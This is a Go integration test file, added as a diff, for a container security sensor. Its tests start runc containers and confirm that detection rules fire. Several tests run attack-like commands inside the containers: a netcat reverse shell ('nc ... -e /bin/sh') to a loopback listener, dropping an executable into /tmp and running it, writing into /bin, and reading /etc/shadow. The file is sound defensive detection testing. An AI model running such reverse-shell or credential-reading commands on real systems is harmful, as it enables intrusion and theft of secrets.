@@ -1,0 +1,425 @@
+//go:build linux && amd64
+
+package sensor
+
+import (
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"net"
+	"os"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/vigilsec/vigil/internal/detect"
+	"github.com/vigilsec/vigil/internal/event"
+	"github.com/vigilsec/vigil/internal/ruleset"
+	"github.com/vigilsec/vigil/internal/sensor/runctest"
+)
+
+// TestMain closes the shared sensor after the tests.
+func TestMain(m *testing.M) {
+	code := m.Run()
+	if theHarness != nil {
+		theHarness.stop()
+	}
+	os.Exit(code)
+}
+
+// harness runs one real sensor for the package's tests, through the
+// detection engine with the builtin rules, and keeps the events and
+// alerts of runctest's containers.
+type harness struct {
+	s      *Sensor
+	g      *detect.Engine
+	cancel context.CancelFunc
+	done   chan error
+
+	mu     sync.Mutex
+	ids    map[string]bool // the containers whose events are kept
+	events []*event.Event
+	alerts []*detect.Alert
+	notify chan struct{} // closed and replaced when something is added
+}
+
+var (
+	theHarness  *harness
+	harnessOnce sync.Once
+	harnessErr  error
+)
+
+func sensorHarness(t *testing.T) *harness {
+	t.Helper()
+	runctest.RequireRoot(t)
+	runctest.Require(t)
+	harnessOnce.Do(func() {
+		g, errs := ruleset.Load(ruleset.Options{}, detect.Config{})
+		if len(errs) > 0 {
+			harnessErr = fmt.Errorf("builtin rules: %v", errs)
+			return
+		}
+		s, err := New(Config{})
+		if err != nil {
+			harnessErr = err
+			return
+		}
+		ctx, cancel := context.WithCancel(context.Background())
+		h := &harness{s: s, g: g, cancel: cancel, done: make(chan error, 1), notify: make(chan struct{}), ids: map[string]bool{}}
+		go func() { h.done <- s.Run(ctx, h.emit) }()
+		theHarness = h
+	})
+	if harnessErr != nil {
+		t.Fatal(harnessErr)
+	}
+	return theHarness
+}
+
+// watch keeps the events of container id and the alerts they raise.
+func (h *harness) watch(id string) {
+	h.mu.Lock()
+	h.ids[id] = true
+	h.mu.Unlock()
+}
+
+// ours reports whether an event comes from a watched container.
+func (h *harness) ours(e *event.Event) bool {
+	return e.Container != nil && e.Container.ContainerID != "" && h.ids[e.Container.ContainerID]
+}
+
+func (h *harness) emit(e *event.Event) error {
+	var alerts []*detect.Alert
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	h.g.Process(e, func(a *detect.Alert) {
+		for _, ev := range a.Events {
+			if h.ours(ev) {
+				alerts = append(alerts, a.Clone())
+				return
+			}
+		}
+	})
+	keep := h.ours(e)
+	if !keep && len(alerts) == 0 {
+		return nil
+	}
+	if keep {
+		h.events = append(h.events, e)
+	}
+	h.alerts = append(h.alerts, alerts...)
+	close(h.notify)
+	h.notify = make(chan struct{})
+	return nil
+}
+
+func (h *harness) stop() {
+	h.cancel()
+	if err := <-h.done; err != nil {
+		fmt.Fprintln(os.Stderr, "sensor:", err)
+	}
+	h.s.Close()
+}
+
+// waitEvent waits until an event of container id satisfies ok.
+func (h *harness) waitEvent(t *testing.T, id string, timeout time.Duration, what string, ok func(*event.Event) bool) *event.Event {
+	t.Helper()
+	var found *event.Event
+	h.wait(t, timeout, what, func() bool {
+		for _, e := range h.events {
+			if e.Container.ContainerID == id && ok(e) {
+				found = e
+				return true
+			}
+		}
+		return false
+	})
+	return found
+}
+
+// waitAlert waits for an alert of the rule titled title whose last event
+// is in container id.
+func (h *harness) waitAlert(t *testing.T, id, title string, timeout time.Duration) *detect.Alert {
+	t.Helper()
+	var found *detect.Alert
+	h.wait(t, timeout, "alert "+title, func() bool {
+		for _, a := range h.alerts {
+			if a.Rule.Title == title && len(a.Events) > 0 && containerOf(a.Events[len(a.Events)-1]) == id {
+				found = a
+				return true
+			}
+		}
+		return false
+	})
+	return found
+}
+
+// alertsOf returns the alerts with an event in container id.
+func (h *harness) alertsOf(id string) []*detect.Alert {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	var out []*detect.Alert
+	for _, a := range h.alerts {
+		for _, e := range a.Events {
+			if containerOf(e) == id {
+				out = append(out, a)
+				break
+			}
+		}
+	}
+	return out
+}
+
+func containerOf(e *event.Event) string {
+	if e.Container == nil {
+		return ""
+	}
+	return e.Container.ContainerID
+}
+
+func (h *harness) wait(t *testing.T, timeout time.Duration, what string, cond func() bool) {
+	t.Helper()
+	deadline := time.NewTimer(timeout)
+	defer deadline.Stop()
+	for {
+		h.mu.Lock()
+		ok := cond()
+		ch := h.notify
+		h.mu.Unlock()
+		if ok {
+			return
+		}
+		select {
+		case <-ch:
+		case <-deadline.C:
+			t.Fatalf("no %s within %v\n%s", what, timeout, h.dump())
+		}
+	}
+}
+
+// dump lists what the harness holds, for a failure message.
+func (h *harness) dump() string {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	var b strings.Builder
+	fmt.Fprintf(&b, "%d container events, last ones:\n", len(h.events))
+	for _, e := range h.events[max(0, len(h.events)-40):] {
+		b.Write(event.AppendJSON(nil, e, false))
+		b.WriteByte('\n')
+	}
+	fmt.Fprintf(&b, "%d alerts:\n", len(h.alerts))
+	for _, a := range h.alerts {
+		fmt.Fprintf(&b, "  %s [%s] %s\n", a.Rule.Title, a.Rule.Level, containerOf(a.Events[len(a.Events)-1]))
+	}
+	return b.String()
+}
+
+// start runs a container and waits until the sensor attributes its
+// records to it and its metadata (start time) is known. A runc container
+// whose cgroup path does not name a runtime is known only once runc has
+// written its state, so commands are run until one is attributed.
+func (h *harness) start(t *testing.T, o runctest.Options) *runctest.Container {
+	t.Helper()
+	if o.ID == "" {
+		o.ID = runctest.UniqueID(t)
+	}
+	h.watch(o.ID)
+	c := runctest.Start(t, o)
+	deadline := time.Now().Add(30 * time.Second)
+	for {
+		if _, err := c.Exec("true"); err != nil {
+			t.Fatal(err)
+		}
+		h.mu.Lock()
+		seen := false
+		for _, e := range h.events {
+			if e.Container.ContainerID == c.ID {
+				seen = true
+				break
+			}
+		}
+		h.mu.Unlock()
+		if seen {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("no event of container %s within 30s\n%s", c.ID, h.dump())
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	info := h.s.attr.Lookup(0, uint32(c.PID()))
+	if info.ID != c.ID || info.Container == nil {
+		t.Fatalf("container of pid %d: %+v, want %s", c.PID(), info, c.ID)
+	}
+	info.Container.WaitMetadata(10 * time.Second)
+	if st, _ := info.Container.StartTime(); st.IsZero() {
+		t.Fatalf("container %s: no start time", c.ID)
+	}
+	return c
+}
+
+const waitFor = 30 * time.Second
+
+// TestReverseShell: nc -e /bin/sh back to a listener on the host's
+// loopback gives a shell whose standard input and output are the TCP
+// connection.
+func TestReverseShell(t *testing.T) {
+	h := sensorHarness(t)
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	port := ln.Addr().(*net.TCPAddr).Port
+	conns := make(chan net.Conn, 1)
+	go func() {
+		if c, err := ln.Accept(); err == nil {
+			conns <- c
+		}
+	}()
+	c := h.start(t, runctest.Options{})
+	p := c.StartExec("sh", "-c", fmt.Sprintf("nc 127.0.0.1 %d -e /bin/sh", port))
+	var conn net.Conn
+	select {
+	case conn = <-conns:
+	case <-time.After(waitFor):
+		t.Fatal("the shell did not connect")
+	}
+	defer conn.Close()
+
+	e := h.waitEvent(t, c.ID, waitFor, "exec of a shell with a socket on stdin", func(e *event.Event) bool {
+		return e.EventName == "execve" && e.Proc.Path == "/bin/sh" && e.Proc.Stdin == "socket"
+	})
+	if e.Proc.Stdout != "socket" || e.Network == nil || e.Network.DestPort != int64(port) || e.Network.DestIP != "127.0.0.1" || e.Network.Transport != "tcp" {
+		t.Errorf("shell exec: %s", event.AppendJSON(nil, e, false))
+	}
+	if e.Container.Runtime != "runc" || e.Proc.UserID != "0" || e.SrcUser != "root" || e.Proc.ParentName == "" {
+		t.Errorf("shell exec: %s", event.AppendJSON(nil, e, false))
+	}
+	a := h.waitAlert(t, c.ID, "Reverse Shell - Shell With a Network Socket as Standard Input or Output", waitFor)
+	if a.Rule.Level != "critical" {
+		t.Errorf("level %s", a.Rule.Level)
+	}
+	h.waitAlert(t, c.ID, "Netcat or Socat Executing a Program for a Connection", waitFor)
+
+	// The shell runs what comes over the connection.
+	fmt.Fprintf(conn, "echo reverse-$((40+2))\nexit\n")
+	buf := make([]byte, 64)
+	conn.SetReadDeadline(time.Now().Add(waitFor))
+	n, _ := conn.Read(buf)
+	if !strings.Contains(string(buf[:n]), "reverse-42") {
+		t.Errorf("shell answered %q", buf[:n])
+	}
+	p.Wait()
+}
+
+// TestDropAndExecute: a copy of busybox written to /tmp, made executable
+// and run is drift, execution from a temporary directory, and a file
+// created then made executable.
+func TestDropAndExecute(t *testing.T) {
+	h := sensorHarness(t)
+	c := h.start(t, runctest.Options{})
+	if _, err := c.Exec("sh", "-c", "cp /bin/busybox /tmp/ls && chmod 755 /tmp/ls && /tmp/ls / >/dev/null"); err != nil {
+		t.Fatal(err)
+	}
+	e := h.waitEvent(t, c.ID, waitFor, "exec of /tmp/ls", func(e *event.Event) bool {
+		return e.EventName == "execve" && e.Proc.Path == "/tmp/ls"
+	})
+	if e.Proc.ExeDrift != "true" || e.Proc.Exe != "/tmp/ls" || e.Proc.ExeFileless != "false" {
+		t.Errorf("exec of /tmp/ls: %s", event.AppendJSON(nil, e, false))
+	}
+	for _, title := range []string{
+		"Executable Dropped in a Running Container Then Executed",
+		"Program Executed From a Temporary or Shared-Memory Directory",
+		"File Created Then Made Executable in a Container",
+		"Execute Permission Set on a File in a Temporary Directory",
+	} {
+		a := h.waitAlert(t, c.ID, title, waitFor)
+		last := a.Events[len(a.Events)-1]
+		if last.File == nil && last.Proc.Path != "/tmp/ls" || last.File != nil && last.File.Path != "/tmp/ls" {
+			t.Errorf("%s: %s", title, a.AppendJSON(nil))
+		}
+	}
+	// A program from the image is not drift.
+	if _, err := c.Exec("sh", "-c", "/bin/ls /"); err != nil {
+		t.Fatal(err)
+	}
+	e = h.waitEvent(t, c.ID, waitFor, "exec of /bin/ls", func(e *event.Event) bool {
+		return e.EventName == "execve" && e.Proc.Path == "/bin/ls"
+	})
+	if e.Proc.ExeDrift != "false" || e.Proc.Exe != "/bin/busybox" {
+		t.Errorf("exec of /bin/ls: %s", event.AppendJSON(nil, e, false))
+	}
+}
+
+// TestWriteBelowBinaryDir: a file written into the container's /bin.
+func TestWriteBelowBinaryDir(t *testing.T) {
+	h := sensorHarness(t)
+	c := h.start(t, runctest.Options{})
+	if _, err := c.Exec("sh", "-c", "echo x > /bin/evil"); err != nil {
+		t.Fatal(err)
+	}
+	a := h.waitAlert(t, c.ID, "File Written Below a Binary or Library Directory in a Container", waitFor)
+	e := a.Events[0]
+	if e.File == nil || e.File.Path != "/bin/evil" || e.File.Name != "evil" || e.EventName != "create" || e.Proc.Name != "sh" {
+		t.Errorf("alert: %s", a.AppendJSON(nil))
+	}
+}
+
+// TestSensitiveRead: a shell in a container reads /etc/shadow.
+func TestSensitiveRead(t *testing.T) {
+	h := sensorHarness(t)
+	c := h.start(t, runctest.Options{})
+	if _, err := c.Exec("sh", "-c", "read -r line < /etc/shadow; echo ${#line}"); err != nil {
+		t.Fatal(err)
+	}
+	a := h.waitAlert(t, c.ID, "Password Hash or Sudo Policy File Read by an Unexpected Program", waitFor)
+	e := a.Events[0]
+	if e.EventName != "read" || e.File.Path != "/etc/shadow" || e.File.Name != "shadow" || e.Proc.Name != "sh" || e.Proc.Path != "/bin/sh" {
+		t.Errorf("alert: %s", a.AppendJSON(nil))
+	}
+}
+
+// TestOrdinaryActivity: a container started, doing ordinary things for a
+// while, raises no alert at all - its runtime's set-up included: the
+// container's cgroup is named as Docker names it, so its records are
+// attributed from the first one.
+func TestOrdinaryActivity(t *testing.T) {
+	h := sensorHarness(t)
+	var raw [32]byte
+	rand.Read(raw[:])
+	id := hex.EncodeToString(raw[:])
+	h.watch(id)
+	c := runctest.Start(t, runctest.Options{ID: id, CgroupsPath: "/docker/" + id})
+	script := `for i in 1 2 3 4 5 6 7 8 9 10; do
+		ls / >/dev/null; ls -l /etc >/dev/null; cat /etc/passwd /etc/hosts >/dev/null
+		sh -c 'echo hi' >/dev/null; date >/dev/null; id >/dev/null; echo "$i" >> /tmp/log
+		grep root /etc/group >/dev/null; wc -l /tmp/log >/dev/null
+	done
+	mkdir -p /tmp/work && cp /etc/hosts /tmp/work/hosts && mv /tmp/work/hosts /tmp/work/hosts.old && rm -r /tmp/work
+	touch "/tmp/$0"`
+	for i := 1; i <= 3; i++ {
+		if _, err := c.Exec("sh", "-c", script, fmt.Sprintf("sentinel-%d", i)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	h.waitEvent(t, id, waitFor, "the last sentinel", func(e *event.Event) bool {
+		return e.File != nil && e.File.Path == "/tmp/sentinel-3"
+	})
+	// Everything before the sentinel has been through the engine.
+	n := 0
+	h.mu.Lock()
+	for _, e := range h.events {
+		if e.Container.ContainerID == id {
+			n++
+		}
+	}
+	h.mu.Unlock()
+	if n < 100 {
+		t.Errorf("only %d events of the container", n)
+	}
+	for _, a := range h.alertsOf(id) {
+		t.Errorf("alert on ordinary activity: %s", a.AppendJSON(nil))
+	}
+}
